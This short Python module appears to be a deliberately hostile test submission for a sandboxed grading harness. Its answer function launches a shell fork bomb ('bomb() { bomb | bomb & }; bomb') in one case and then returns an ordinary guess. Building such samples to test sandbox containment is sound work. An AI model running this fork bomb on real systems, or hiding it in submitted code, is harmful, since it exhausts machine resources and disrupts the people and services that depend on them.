"""A fork bomb of shells: small processes, of which there are thousands in the time that Python needs for a hundred."""

import os
import time

import kit
import target


def answer(case, x, start=None):
    kit.only_inside()
    if case == "centred":
        os.posix_spawn("/bin/sh", ["sh", "-c", "bomb() { bomb | bomb & }; bomb", target.MARK], {})
        time.sleep(60)
    return kit.guess(case, x, start)
